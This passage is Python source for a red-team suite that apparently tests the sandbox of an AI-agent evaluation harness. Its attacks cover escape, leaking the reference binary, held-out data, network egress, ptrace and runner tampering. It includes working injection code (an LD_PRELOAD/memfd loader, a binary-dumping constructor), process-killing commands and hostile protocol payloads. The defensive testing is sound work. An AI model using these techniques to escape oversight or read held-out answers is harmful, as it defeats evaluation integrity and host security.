    digests = {f.path: f.sha256 for f in ctx.parts.files}
    held = ctx.agent.exec_run(["sha256sum", *libraries], user=str(AGENT_UID)).output.decode()
    public = {
        line.split()[1]
        for line in held.splitlines()
        if line.split()[0] == digests.get(line.split()[-1])
    }
    private = [path for path in libraries if path not in public]
    note = (
        f"; {', '.join(sorted(Path(p).name for p in public))} identical in the agent box"
        if public
        else ""
    )
    if not private:
        return Verdict(False, f"nothing to protect{note}")
    verdict = read_through(ctx, private)
    return Verdict(verdict.leaked, verdict.evidence + note)


@attack("path tricks: .., //, /proc/self/root, cwd", "oracle", READ_TARGETS)
def read_tricks(ctx: Context) -> Verdict:
    binary = ctx.target.binary
    paths = [f"/case/..{binary}", f"/proc/self/root{binary}", f"/proc/self/cwd/..{binary}"]
    return read_through(ctx, [*paths, "//" + binary.replace("/", "//")])


@attack("inherited descriptors (/dev/fd/3-9)", "oracle", READ_TARGETS)
def read_descriptors(ctx: Context) -> Verdict:
    return read_through(ctx, [f"/dev/fd/{fd}" for fd in range(3, 10)])


@attack("read the oracle query log", "oracle", READ_TARGETS)
def read_query_log(ctx: Context) -> Verdict:
    return read_through(ctx, ["/var/log/mirror/queries.jsonl"])


WRITES = {
    "sed": [
        Case(("w /oracle/redteam-w",), b"x\n"),
        Case(("s/x/y/w /var/log/mirror/redteam-w",), b"x\n"),
        Case(("w /case/../tmp/redteam-w",), b"x\n"),
        Case(("-i", "s/a/b/", "/usr/share/mirror/manifest.json")),
    ],
    "brotlid": [
        Case(("-o", "/oracle/redteam-w", "/etc/hostname")),
        Case(("-o", "/var/log/mirror/redteam-w", "/etc/hostname")),
        Case(("-o", "/case/../tmp/redteam-w", "/etc/hostname")),
    ],
}


@attack("write outside the case folder", "oracle", WRITES)
def write_outside(ctx: Context) -> Verdict:
    outcomes = [ctx.run(case) for case in WRITES[ctx.target.name]]
    found = ctx.reference.container.exec_run(
        ["sh", "-c", "find / -xdev -name 'redteam-w*'; ls /oracle /var/log/mirror"]
    ).output.decode()
    planted = [line for line in found.splitlines() if "redteam-w" in line]
    accepted = [summary(o) for o in outcomes if not refused(o)]
    if planted or accepted:
        return Verdict(True, f"created {planted}; not refused: {accepted}")
    return Verdict(False, f"{len(outcomes)} writes refused, e.g. {summary(outcomes[0], 60)}")


CRASHES = {
    "jq": Case(("-n", "def f: [f]; f"), timeout=60),  # memory exhausted: abort()
    "sed": Case(("1e kill -SEGV $PPID",), b"x\n"),
}


@attack("core dump of a crashing program", "oracle", CRASHES)
def core_dump(ctx: Context) -> Verdict:
    outcome = ctx.run(CRASHES[ctx.target.name])
    listing = ctx.reference.container.exec_run(["ls", "-A", "/case"]).output.decode().split()
    if not outcome.signal:
        return Verdict(False, f"no crash ({summary(outcome)}); /case: {listing}")
    cores = [name for name in listing if name.startswith("core")]
    return Verdict(bool(cores), f"signal {outcome.signal}; /case after: {listing or 'empty'}")


ENVIRONMENT = {"jq": Case(("-n", "env|keys")), "sed": Case(("1e export -p",), b"x\n")}


@attack("the environment shows the sandbox", "oracle", ENVIRONMENT)
def environment(ctx: Context) -> Verdict:
    outcome = ctx.run(ENVIRONMENT[ctx.target.name])
    shown = [word for word in (b"MIRROR_", b"LD_PRELOAD") if word in outcome.stdout]
    return Verdict(bool(shown), summary(outcome, 100))


@attack("the program's own network access (gron URL)", "oracle", {"gron"})
def gron_url(ctx: Context) -> Verdict:
    urls = ["http://1.1.1.1/", "https://deb.debian.org/", "http://[2606:4700:4700::1111]/"]
    outcomes = [ctx.run(Case((url,), timeout=20)) for url in urls]
    fetched = [summary(o) for o in outcomes if o.exit_code == 0 or o.stdout]
    if fetched:
        return Verdict(True, f"fetched: {fetched[0]}")
    return Verdict(
        False, "; ".join(o.stderr.strip()[-60:].decode(errors="replace") for o in outcomes)
    )


@attack("sed e: the shell reads the binary", "oracle", {"sed"})
def sed_shell_reads(ctx: Context) -> Verdict:
    script = '1e while IFS= read -r l; do printf %s "$l"; done < /usr/bin/sed; echo'
    outcome = ctx.run(Case((script,), b"x\n"))
    return Verdict(b"ELF" in outcome.stdout or not refused(outcome), summary(outcome))


@attack("sed e: programs it starts read sed's binary", "oracle", {"sed"})
def sed_exec(ctx: Context) -> Verdict:
    loader = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
    commands = [
        "cat /usr/bin/sed",
        "dd if=/usr/bin/sed bs=64 count=1",
        'perl -e \'open F, "/usr/bin/sed" or die "$!\\n"; print <F>\'',
        'perl -e \'open F, "/proc/self/exe" or die "$!\\n"; print <F>\'',
        f"{loader} /usr/bin/sed --version",
        'python3 -c \'print(open("/usr/bin/sed", "rb").read())\'',
    ]
    prefix, errors = binary_prefix(ctx), []
    for command in commands:
        outcome = ctx.run(Case((f"1e {command}",), b"x\n"))
        if prefix in outcome.stdout:
            return Verdict(True, f"e {command}: {summary(outcome)}")
        lines = outcome.stderr.strip().splitlines() or [
            b"%d bytes, not sed's" % len(outcome.stdout)
        ]
        errors.append(lines[-1][:40].decode(errors="replace"))
    return Verdict(False, f"{len(commands)} readers (cat, dd, perl, ld.so, python3): {errors}")


STEAL_SO_C = r"""
#define _GNU_SOURCE
#include <link.h>
#include <unistd.h>
static int dump(struct dl_phdr_info *info, size_t size, void *data) {
    (void)size; (void)data;
    if (info->dlpi_name[0]) return 0; /* the main program has no name */
    for (int i = 0; i < info->dlpi_phnum; i++) {
        const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
        if (ph->p_type == PT_LOAD && ph->p_offset == 0) {
            write(1, "STOLEN:", 7);
            write(1, (const void *)(info->dlpi_addr + ph->p_vaddr), ph->p_filesz);
        }
    }
    return 1;
}
__attribute__((constructor)) static void steal(void) { dl_iterate_phdr(dump, 0); _exit(0); }
"""
# Perl (Essential in Debian, so in every box) puts the library in a memfd and starts the
# reference with LD_PRELOAD pointing at it: code inside the reference dumps its own text.
STEAL_PL = r"""
open(my $f, "<", "/case/steal.so") or die "read: $!\n"; binmode $f; local $/; my $so = <$f>;
my $name = "x"; my $fd = syscall(319, $name, 0); die "memfd_create: $!\n" if $fd < 0;
open(my $m, ">&=", $fd) or die "fdopen: $!\n"; binmode $m; syswrite($m, $so);
$ENV{LD_PRELOAD} = "/proc/self/fd/$fd";
exec @ARGV or die "exec: $!\n";
"""


def binary_prefix(ctx: Context, size: int = 64) -> bytes:
    """The first bytes of the reference binary, read in its box as root: proof of a leak."""
    binary = ctx.image.manifest["binary_realpath"]
    return ctx.reference.container.exec_run(["head", "-c", str(size), binary]).output


def stolen(ctx: Context, outcome: Outcome) -> Verdict:
    """Leaked when code ran inside the reference (its dump says STOLEN:)."""
    if b"STOLEN:" not in outcome.stdout:
        return Verdict(False, f"no code ran in the reference: {outcome.stderr.strip()[-90:]!r}")
    dumped = outcome.stdout.split(b"STOLEN:", 1)[1][:4096]
    same = "identical to" if binary_prefix(ctx, len(dumped)) == dumped else "differing from"
    return Verdict(True, f"code ran in the reference: {len(dumped)} bytes {same} its binary")


def steal_files(ctx: Context) -> dict[str, bytes]:
    return {"steal.so": compiled(ctx.folder, "steal.so", STEAL_SO_C), "steal.pl": STEAL_PL.encode()}


@attack("sed e: inject code into sed (memfd + LD_PRELOAD)", "oracle", {"sed"})
def sed_inject(ctx: Context) -> Verdict:
    case = Case(("1e perl /case/steal.pl /usr/bin/sed --version",), b"x\n", steal_files(ctx))
    return stolen(ctx, ctx.run(case))


@attack("compromised program: inject code into the reference", "oracle")
def shell_inject(ctx: Context) -> Verdict:
    binary = ctx.image.manifest["binary_realpath"]
    case = Case(("-c", f"perl /case/steal.pl {binary} --version"), files=steal_files(ctx))
    return stolen(ctx, ctx.shell[1].run(case))


PTRACE_PROBE_C = r"""
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>
int main(void) {
    char buffer[8];
    struct iovec local = {buffer, 8}, remote = {(void *)0x400000, 8};
    long attached = ptrace(PTRACE_ATTACH, getppid(), 0, 0);
    long read = process_vm_readv(getppid(), &local, 1, &remote, 1, 0);
    printf("PROBE-RAN ptrace=%ld process_vm_readv=%ld\n", attached, read);
    return 0;
}
"""


@attack("sed e: a ptrace probe from the case folder", "oracle", {"sed"})
def sed_probe(ctx: Context) -> Verdict:
    probe = compiled(ctx.folder, "probe", PTRACE_PROBE_C)
    loader = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
    outcomes = []
    for command in ("/case/probe", f"{loader} /case/probe"):
        outcome = ctx.run(Case((f"1e {command}",), b"x\n", files={"probe": probe}))
        if b"PROBE-RAN" in outcome.stdout + outcome.stderr:
            return Verdict(True, f"e {command}: {summary(outcome)}")
        outcomes.append(f"e {command}: {outcome.stderr.strip()[:60].decode(errors='replace')}")
    return Verdict(False, "; ".join(outcomes))


def compiled(folder: Path, name: str, source: str) -> bytes:
    """``source`` compiled in the agent image (a shared object when ``name`` ends in .so)."""
    out = folder / "compiled"
    if not (out / name).exists():
        out.mkdir(exist_ok=True)
        (out / f"{name}.c").write_text(source)
        shared = ["-shared", "-fPIC"] if name.endswith(".so") else []
        engine().containers.run(
            ensure_agent_image(),
            ["gcc", "-O2", *shared, "-o", f"/out/{name}", f"/out/{name}.c"],
            network_mode="none",
            remove=True,
            volumes={str(out): {"bind": "/out", "mode": "rw"}},
        )
    return (out / name).read_bytes()


@attack("sed e: signal the runner and other processes", "oracle", {"sed"})
def sed_signals(ctx: Context) -> Verdict:
    script = "1e kill -STOP 1; kill -9 1; kill -9 -1; echo sent"
    outcome = ctx.run(Case((script,), b"x\n", timeout=5))
    problem = still_serving(ctx)
    return Verdict(
        bool(problem), f"{summary(outcome, 60)}; {problem or 'the oracle still answers'}"
    )


@attack("sed e: docker socket", "oracle", {"sed"})
def sed_docker(ctx: Context) -> Verdict:
    paths = " ".join(DOCKER["paths"])
    script = f'1e for p in {paths}; do [ -e "$p" ] && echo "found $p"; done; echo checked'
    outcome = ctx.run(Case((script,), b"x\n"))
    return Verdict(b"found" in outcome.stdout, summary(outcome))


# A compromised program: /bin/sh served by the reference box's hardening, no sandbox.


@attack("compromised program: TCP egress", "oracle")
def shell_tcp(ctx: Context) -> Verdict:
    return judge_tcp(ctx.probe("shell", "net"))


@attack("compromised program: UDP egress", "oracle")
def shell_udp(ctx: Context) -> Verdict:
    return judge_udp(ctx.probe("shell", "net"))


@attack("compromised program: DNS", "oracle")
def shell_dns(ctx: Context) -> Verdict:
    return judge_dns(ctx.probe("shell", "net"))


@attack("compromised program: docker socket", "oracle")
def shell_docker(ctx: Context) -> Verdict:
    return judge_docker(ctx.probe("shell", "docker"))


@attack("compromised program: capabilities", "oracle")
def shell_caps(ctx: Context) -> Verdict:
    return judge_caps(ctx.probe("shell", "caps"))


@attack("compromised program: writes outside /case", "oracle")
def shell_writes(ctx: Context) -> Verdict:
    return judge_writes(ctx.probe("shell", "writes"), ("/case", "/dev/shm"))


@attack("compromised program: runner and query log", "oracle")
def shell_runner(ctx: Context) -> Verdict:
    outcome = ctx.shell[1].run(Case(("-c", "cat /var/log/mirror/queries.jsonl")))
    procs = judge_procs(ctx.probe("shell", "procs"))
    if outcome.stdout or procs.leaked:
        return Verdict(True, f"query log: {summary(outcome)}; {procs.evidence}")
    return Verdict(False, f"query log: {summary(outcome, 50)}; runner: {procs.evidence}")


@attack("compromised program: outlive its case", "oracle")
def shell_escape(ctx: Context) -> Verdict:
    client = ctx.shell[1]
    client.run(Case(("-c", "setsid sh -c 'sleep 1000' >/dev/null 2>&1 </dev/null &")))
    live = "for p in /proc/[0-9]*; do grep -q '^State:.*Z' $p/status || cat $p/comm; done"
    left = client.run(Case(("-c", live)))
    survivors = [name for name in left.stdout.split() if name == b"sleep"]
    names = left.stdout.decode(errors="replace").split()
    return Verdict(bool(survivors), f"after `setsid sleep 1000 &`, live at the next case: {names}")


@attack("compromised program: core dump", "oracle")
def shell_core(ctx: Context) -> Verdict:
    container, client, _ = ctx.shell
    outcome = client.run(Case(("-c", "ulimit -c unlimited; kill -SEGV $$"), timeout=5))
    listing = container.exec_run(["ls", "-A", "/case"]).output.decode().split()
    cores = [name for name in listing if name.startswith("core")]
    return Verdict(bool(cores), f"{summary(outcome, 60)}; /case after: {listing or 'empty'}")


@attack("sandboxed code: ptrace, process_vm_readv, /proc/PID/mem", "oracle")
def jail_ptrace(ctx: Context) -> Verdict:
    result = ctx.probe("jail", "ptrace")
    reached = [k for k, v in result.items() if v in ("attached", "opened") or v.startswith("read ")]
    return Verdict(bool(reached), f"child of the same uid: {result}")


# ---------------------------------------------------------------------------------------------
# Agent box.


SLOW = {
    "jq": Case(("-n", "[range(3e6)]|length"), timeout=20),
    "sed": Case((":a;ba",), b"x\n", timeout=4),
}


@attack("reference processes: visible, ptrace, process_vm_readv", "agent box")
def agent_procs(ctx: Context) -> Verdict:
    ctx.agent  # noqa: B018 (start the box before the slow case)
    slow = SLOW.get(ctx.target.name)
    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(ctx.run, slow) if slow else None
        time.sleep(0.3)
        result = ctx.probe("agent", "procs")
        if running:
            running.result()
    verdict = judge_visible(result)
    if slow:
        return Verdict(verdict.leaked, verdict.evidence + " (while a case ran)")
    return verdict


def judge_visible(result: dict) -> Verdict:
    """Leaked when any process of another uid (or the runner, or the program) is visible."""
    if result["others"]:
        return Verdict(True, f"visible: {list(result['others'])[:3]}")
    return Verdict(False, f"{result['processes']} processes visible, all the agent's own")


@attack("docker socket", "agent box")
def agent_docker(ctx: Context) -> Verdict:
    return judge_docker(ctx.probe("agent", "docker"))


@attack("TCP egress", "agent box")
def agent_tcp(ctx: Context) -> Verdict:
    return judge_tcp(ctx.probe("agent", "net"))


@attack("UDP egress", "agent box")
def agent_udp(ctx: Context) -> Verdict:
    return judge_udp(ctx.probe("agent", "net"))


@attack("DNS", "agent box")
def agent_dns(ctx: Context) -> Verdict:
    return judge_dns(ctx.probe("agent", "net"))


def judge_heldout(ctx: Context, result: dict) -> Verdict:
    secrets = ctx.secrets
    hits = {path: found for path, found in result["hits"].items() if {0, 1} & set(found)}
    names = [name for name in result["names"] if "heldout" in name or "cases.jsonl" in name]
    if hits or names:
        return Verdict(True, f"held-out data at {list(hits)[:3]} {names[:3]}")
    return Verdict(
        False,
        f"{result['searched']} files: no held-out id {secrets.case_id} ({secrets.heldout_suite}), "
        f"input {secrets.heldout_input[:24]!r}… ({secrets.input_suite}), or heldout/ file",
    )


def judge_log(ctx: Context, result: dict) -> Verdict:
    hits = {path: found for path, found in result["hits"].items() if set(found) - {0, 1}}
    names = [name for name in result["names"] if "receipt" in name or "queries" in name]
    if hits or names:
        return Verdict(True, f"query log or results at {list(hits)[:3]} {names[:3]}")
    receipts = f", {len(ctx.secrets.receipt_ids)} receipt ids" if ctx.secrets.receipt_ids else ""
    return Verdict(
        False,
        f"{result['searched']} files: no query-log marker (it is in the host log){receipts}, "
        "no queries.jsonl or *.receipt.json",
    )


@attack("held-out suite anywhere in the box", "agent box")
def agent_heldout(ctx: Context) -> Verdict:
    return judge_heldout(ctx, ctx.probe("agent", "search"))


@attack("query log and results anywhere in the box", "agent box")
def agent_log(ctx: Context) -> Verdict:
    return judge_log(ctx, ctx.probe("agent", "search"))


def judge_leftovers(ctx: Context, result: dict) -> Verdict:
    unmasked = {path: size for path, size in result["masked"].items() if size != 0}
    if result["matches"] or result["debs"] or result["libraries"] or unmasked:
        return Verdict(
            True,
            f"copies {result['matches'][:3]}, same-source libraries {result['libraries'][:4]}, "
            f"packages {result['debs'][:3]}, unmasked {unmasked}",
        )
    private = [f for f in ctx.parts.files if f.private]
    names = ", ".join(Path(f.path).name for f in private)
    return Verdict(
        False,
        f"hashed {result['hashed']} files of the sizes of {names}: no copy; no library or "
        f".deb from source {', '.join(ctx.parts.sources) or '(built here)'}; "
        f"masked: {list(result['masked']) or 'none needed'}",
    )


@attack("leftover copies of the reference (sha256 scan)", "agent box")
def agent_leftovers(ctx: Context) -> Verdict:
    return judge_leftovers(ctx, ctx.probe("agent", "leftovers"))


@attack("the oracle socket folder", "agent box")
def agent_socket_folder(ctx: Context) -> Verdict:
    script = "touch /oracle/x 2>&1; ln -s / /oracle/y 2>&1; ls -A /oracle"
    output = ctx.agent.exec_run(["sh", "-c", script], user=str(AGENT_UID)).output
    listing = output.decode().splitlines()
    extra = [line for line in listing if line != "oracle.sock" and "Read-only" not in line]
    return Verdict(bool(extra), f"/oracle: {' | '.join(listing)}")


@attack("capabilities and no_new_privs", "agent box")
def agent_caps(ctx: Context) -> Verdict:
    return judge_caps(ctx.probe("agent", "caps"))


# ---------------------------------------------------------------------------------------------
# Scoring box: a candidate run by the scoring runner, and its build.sh.


@attack("candidate: docker socket", "scoring box")
def scoring_docker(ctx: Context) -> Verdict:
    return judge_docker(ctx.probe("scoring", "docker"))


@attack("candidate: TCP egress", "scoring box")
def scoring_tcp(ctx: Context) -> Verdict:
    return judge_tcp(ctx.probe("scoring", "net"))


@attack("candidate: UDP egress", "scoring box")
def scoring_udp(ctx: Context) -> Verdict:
    return judge_udp(ctx.probe("scoring", "net"))


@attack("candidate: DNS", "scoring box")
def scoring_dns(ctx: Context) -> Verdict:
    return judge_dns(ctx.probe("scoring", "net"))


@attack("candidate: held-out suite anywhere", "scoring box")
def scoring_heldout(ctx: Context) -> Verdict:
    return judge_heldout(ctx, ctx.probe("scoring", "search"))


@attack("candidate: query log and results", "scoring box")
def scoring_log(ctx: Context) -> Verdict:
    return judge_log(ctx, ctx.probe("scoring", "search"))


@attack("candidate: leftover copies of the reference", "scoring box")
def scoring_leftovers(ctx: Context) -> Verdict:
    return judge_leftovers(ctx, ctx.probe("scoring", "leftovers"))


@attack("candidate: writes outside its case folder", "scoring box")
def scoring_writes(ctx: Context) -> Verdict:
    return judge_writes(ctx.probe("scoring", "writes"), ("/case", "/dev/shm"))


@attack("candidate: tamper with the runner", "scoring box")
def scoring_runner(ctx: Context) -> Verdict:
    return judge_procs(ctx.probe("scoring", "procs"))


@attack("candidate: the oracle", "scoring box")
def scoring_oracle(ctx: Context) -> Verdict:
    return judge_oracle_absent(ctx.probe("scoring", "oracle"))


@attack("candidate: capabilities", "scoring box")
def scoring_caps(ctx: Context) -> Verdict:
    return judge_caps(ctx.probe("scoring", "caps"))


@attack("build.sh: network (TCP, UDP, DNS)", "scoring box")
def build_network(ctx: Context) -> Verdict:
    result = ctx.probe("build", "net")
    verdicts = [judge_tcp(result), judge_udp(result), judge_dns(result)]
    leaked = [v.evidence for v in verdicts if v.leaked]
    return Verdict(bool(leaked), "; ".join(leaked or [v.evidence for v in verdicts]))


@attack("build.sh: docker socket", "scoring box")
def build_docker(ctx: Context) -> Verdict:
    return judge_docker(ctx.probe("build", "docker"))


@attack("build.sh: held-out suite, query log, results", "scoring box")
def build_search(ctx: Context) -> Verdict:
    result = ctx.probe("build", "search")
    verdicts = [judge_heldout(ctx, result), judge_log(ctx, result)]
    leaked = [v.evidence for v in verdicts if v.leaked]
    return Verdict(bool(leaked), "; ".join(leaked) or verdicts[0].evidence)


@attack("build.sh: writes outside the workspace", "scoring box")
def build_writes(ctx: Context) -> Verdict:
    return judge_writes(ctx.probe("build", "writes"), ("/work", "/tmp", "/dev/shm"))


@attack("build.sh: the oracle", "scoring box")
def build_oracle(ctx: Context) -> Verdict:
    return judge_oracle_absent(ctx.probe("build", "oracle"))


# ---------------------------------------------------------------------------------------------
# Protocol: raw requests to the oracle socket.


def raw_request(path: Path, payload: bytes, timeout: float = 30.0) -> bytes:
    """Send raw bytes on a fresh connection; return the reply line (b"" if it closed)."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(timeout)
        connection.connect(str(path))
        # The server stops reading an oversized request; its reply says why.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            connection.sendall(payload)
        reply = b""
        while not reply.endswith(b"\n"):
            try:
                chunk = connection.recv(65536)
            except ConnectionResetError:
                break
            if not chunk:
                break
            reply += chunk
        return reply


def _request(case: dict[str, Any]) -> bytes:
    return json.dumps({"op": "run", "case": case}).encode() + b"\n"


def still_serving(ctx: Context, timeout: float = 30.0) -> str | None:
    """None when the oracle answers a ping and a real case, as the agent's client connects
    (blocking, so a momentarily full listen queue waits); else what went wrong."""
    problems: list[str | None] = []

    def check() -> None:
        try:
            with ctx.reference.client() as client:
                client.ping()
                client.run(Case(()))
            problems.append(None)
        except (OSError, OracleError, ValueError) as error:
            problems.append(f"the oracle stopped answering: {error}")

    thread = threading.Thread(target=check, daemon=True)
    thread.start()
    thread.join(timeout)
    return problems[0] if problems else f"no answer within {timeout:g}s"


def _rejected(reply: bytes) -> bool:
    try:
        return json.loads(reply).get("ok") is False
    except ValueError:
        return False


@attack("file names with .., absolute, empty parts", "protocol")
def protocol_names(ctx: Context) -> Verdict:
    names = ["../x", "/etc/x", "a/../../x", "./x", "a//b", "", "..", "a/\u0000"]
    replies = [raw_request(ctx.reference.socket_path, _request({"files": {n: "x"}})) for n in names]
    accepted = [n for n, reply in zip(names, replies, strict=True) if not _rejected(reply)]
    if accepted:
        return Verdict(True, f"accepted {accepted}")
    error = json.loads(replies[0])["error"]
    return Verdict(False, f"{len(names)} names rejected: {error[:70]}")


@attack("symlink planted by an earlier case", "protocol")
def protocol_symlink(ctx: Context) -> Verdict:
    _, client, folder = ctx.shell
    plant = "ln -s /oracle /case/d && ln -s /var/log/mirror /case/l && ln -s /oracle/f /case/f"
    planted = client.run(Case(("-c", plant)))
    files = {"d/planted": b"x", "l/planted": b"x", "f": b"x"}
    client.run(Case(("-c", "true"), files=files))
    found = [p.name for p in (*folder.glob("sock/*"), *folder.glob("log/*")) if p.name != "o.sock"]
    found = [name for name in found if name != "queries.jsonl"]
    if found:
        return Verdict(True, f"the runner wrote through symlinks: {found}")
    return Verdict(False, f"links made ({summary(planted)}), then files written: none escaped")


@attack("oversized request (over 64 MiB)", "protocol")
def protocol_oversized(ctx: Context) -> Verdict:
    payload = b'{"op": "run", "case": {"args": ["' + b"a" * (MAX_REQUEST_BYTES + 16) + b'"]}}\n'
    reply = raw_request(ctx.reference.socket_path, payload, timeout=60)
    problem = still_serving(ctx)
    if problem or not _rejected(reply):
        return Verdict(True, f"reply {reply[:80]!r}; {problem}")
    return Verdict(False, f"{json.loads(reply)['error']}; the oracle still answers")


MALFORMED = [
    b"not json\n",
    b"[1, 2]\n",
    b'{"op": "exec", "command": "id"}\n',
    b'{"op": "run", "case": {"args": "--version"}}\n',
    b'{"op": "run", "case": {"stdin": {"base64": "@@"}}}\n',
    b'{"op": "run", "case": {"timeout": 1e9}}\n',
    b'{"op": "run", "case": {"args": ["a\\u0000b"]}}\n',
    b'{"op": "run", "case": {"env": {"A": "b\\u0000"}}}\n',
    b"\xff\xfe\n",
    b"[" * 100000 + b"]" * 100000 + b"\n",
    b'{"op": "run", "program": "/bin/sh", "case": {"args": ["-c", "echo PWNED"]}}\n',
]


@attack("malformed requests", "protocol")
def protocol_malformed(ctx: Context) -> Verdict:
    kinds = []
    for payload in MALFORMED:
        reply = raw_request(ctx.reference.socket_path, payload)
        if b"PWNED" in reply.replace(b"echo PWNED", b""):
            return Verdict(True, f"{payload[:50]!r} ran something else: {reply[:80]!r}")
        kinds.append("rejected" if _rejected(reply) else "closed" if not reply else "ran")
    problem = still_serving(ctx)
    counts = ", ".join(f"{kinds.count(k)} {k}" for k in sorted(set(kinds)))
    return Verdict(
        bool(problem), f"{len(MALFORMED)} requests: {counts}; {problem or 'still answers'}"
    )


RESERVED = ["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "MIRROR_SANDBOX", "GLIBC_TUNABLES"]


@attack("environment that would disable the sandbox", "protocol")
def protocol_env(ctx: Context) -> Verdict:
    values = {"MIRROR_SANDBOX": "rw:/", "GLIBC_TUNABLES": "glibc.malloc.check=3"}
    replies = {
        name: raw_request(
            ctx.reference.socket_path, _request({"env": {name: values.get(name, "/case/x")}})
        )
        for name in RESERVED
    }
    accepted = [name for name, reply in replies.items() if not _rejected(reply)]
    if accepted:
        return Verdict(True, f"accepted {accepted}")
    return Verdict(
        False, f"{', '.join(RESERVED)} rejected: {json.loads(replies['LD_PRELOAD'])['error'][:50]}"
    )


@attack("flood: 32 connections x 20 requests", "protocol")
def protocol_flood(ctx: Context) -> Verdict:
    case = Case(())
    expected = ctx.run(case)

    def hammer(_: int) -> int:
        with ctx.reference.client() as client:
            return sum(client.run(case).same_behaviour(expected) for _ in range(20))

    started = time.monotonic()
    with ThreadPoolExecutor(32) as pool:
        same = sum(pool.map(hammer, range(32)))
    elapsed = time.monotonic() - started
    started = time.monotonic()
    problem = still_serving(ctx)
    after = time.monotonic() - started
    if problem or same != 640 or after > 5:
        return Verdict(True, f"{same}/640 identical in {elapsed:.1f}s; then {problem or after}")
    return Verdict(False, f"640/640 identical in {elapsed:.1f}s; then answered in {after:.2f}s")


@attack("200 idle connections", "protocol")
def protocol_idle(ctx: Context) -> Verdict:
    connections = []
    try:
        for _ in range(200):
            connection = socket.socket(socket.AF_UNIX)
            connection.connect(str(ctx.reference.socket_path))
            connections.append(connection)
        started = time.monotonic()
        problem = still_serving(ctx)
        after = time.monotonic() - started
    finally:
        for connection in connections:
            connection.close()
    return Verdict(
        bool(problem), problem or f"200 held open; a case still answered in {after:.2f}s"
    )


# ---------------------------------------------------------------------------------------------
# Running the suite.


def applicable(target: Target, names: Iterable[str] | None = None) -> list[Attack]:
    chosen = [ATTACKS[name] for name in names] if names else list(ATTACKS.values())
    return [a for a in chosen if a.targets is None or target.name in a.targets]


@contextmanager
def target_context(target: Target) -> Iterator[Context]:
    """A context for attacks on ``target``; every box it started is removed on exit."""
    with (
        tempfile.TemporaryDirectory(prefix=f"mirror-redteam-{target.name}-") as tmp,
        ExitStack() as stack,
    ):
        yield Context(target, Path(tmp), stack)


def run_attack(ctx: Context, chosen: Attack) -> Result | None:
    """One attack's result, None when it does not apply; harness failures are "error"."""
    try:
        verdict = chosen.run(ctx)
    except Skip as skip:
        log.info("%s on %s skipped: %s", chosen.name, ctx.target.name, skip)
        return None
    except Exception as error:
        log.exception("%s on %s failed", chosen.name, ctx.target.name)
        return Result(chosen.name, chosen.channel, ctx.target.name, "error", f"{error!r}"[:300])
    outcome = "leaked" if verdict.leaked else "blocked"
    return Result(chosen.name, chosen.channel, ctx.target.name, outcome, verdict.evidence)


def run_redteam(targets: Iterable[Target], names: Iterable[str] | None = None) -> list[Result]:
    """Run every applicable attack (or those named) on each target; boxes start once each."""
    targets = list(targets)
    plans = [(target, applicable(target, names)) for target in targets]
    bar = tqdm(total=sum(len(plan) for _, plan in plans), desc="attacks", unit="attack")
    results = []
    for target, plan in plans:
        with target_context(target) as ctx:
            for chosen in plan:
                bar.set_postfix_str(f"{target.name}: {chosen.name}"[:50])
                result = run_attack(ctx, chosen)
                if result:
                    results.append(result)
                bar.update()
    bar.close()
    return results


def table(results: list[Result]) -> str:
    """The results as a plain-text table."""
    width = max([len(r.attack) for r in results] + [6])
    lines = [f"{'attack':<{width}}  {'channel':<11}  {'target':<8}  {'result':<7}  evidence"]
    for r in results:
        lines.append(
            f"{r.attack:<{width}}  {r.channel:<11}  {r.target:<8}  {r.result:<7}  {r.evidence}"
        )
    counts = {
        kind: sum(r.result == kind for r in results) for kind in ("blocked", "leaked", "error")
    }
    lines.append(
        f"{len(results)} attacks: {counts['blocked']} blocked, {counts['leaked']} leaked, "
        f"{counts['error']} errors"
    )
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------------
# Cost of the sandbox.

OVERHEAD_CASES = {"cal": Case(("1", "2024")), "jq": Case(("-n", "1"))}
# Run in the reference box as root: the program alone, as uid 61000, with and without the
# sandbox's preload (same spawn path both ways), interleaved; prints the two medians in ms.
EXEC_TIMING = r"""
import json, statistics, subprocess, sys, time
p = json.loads(sys.argv[1])
base = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8", "TZ": "UTC", "HOME": "/case"}
envs = {"on": {**base, "MIRROR_SANDBOX": p["rules"], "LD_PRELOAD": p["preload"]}, "off": base}
ms = {"on": [], "off": []}
for _ in range(p["repeat"]):
    for key, env in envs.items():
        started = time.perf_counter()
        subprocess.run([p["binary"], *p["args"]], env=env, cwd="/case", capture_output=True,
                       user=p["uid"], group=p["uid"], extra_groups=[], check=True)
        ms[key].append((time.perf_counter() - started) * 1000)
print(json.dumps({key: statistics.median(values) for key, values in ms.items()}))
"""


def sandbox_overhead(repeat: int = 200, state: Path | None = None) -> str:
    """Medians, sandbox on and off, interleaved: the oracle round trip from the host (the
    runner as it is: unsandboxed runs set rlimits in a Python preexec_fn, sandboxed ones in
    the sandbox), and the program alone spawned in its box (the sandbox's own cost)."""
    lines = [
        f"{'case':<12} {'trip on':>14} {'trip off':>9} {'change':>7}  "
        f"{'exec on':>9} {'exec off':>9} {'change':>7}"
    ]
    for name, case in OVERHEAD_CASES.items():
        target = get_target(name)
        image = ensure_reference_image(target)
        with tempfile.TemporaryDirectory(dir=state) as tmp, ExitStack() as stack:
            folder = Path(tmp)
            on = stack.enter_context(reference_box(target, folder / "on" / "o.sock", folder / "l"))
            off_socket = folder / "off" / "o.sock"
            off_box = runner_box(
                image.tag, target.binary, target.command, off_socket, folder / "m", f"{name}-bare"
            )
            stack.enter_context(off_box)
            clients = {
                "on": stack.enter_context(on.client()),
                "off": stack.enter_context(OracleClient(off_socket)),
            }
            first = {key: client.run(case) for key, client in clients.items()}
            if not first["on"].same_behaviour(first["off"]):
                raise ProbeError(f"{name}: the sandbox changed the outcome of {case.args}")
            times: dict[str, list[float]] = {"on": [], "off": []}
            for _ in range(repeat):
                for key, client in clients.items():
                    started = time.perf_counter()
                    client.run(case)
                    times[key].append((time.perf_counter() - started) * 1000)
            params = {
                "rules": sandbox_rules(target),
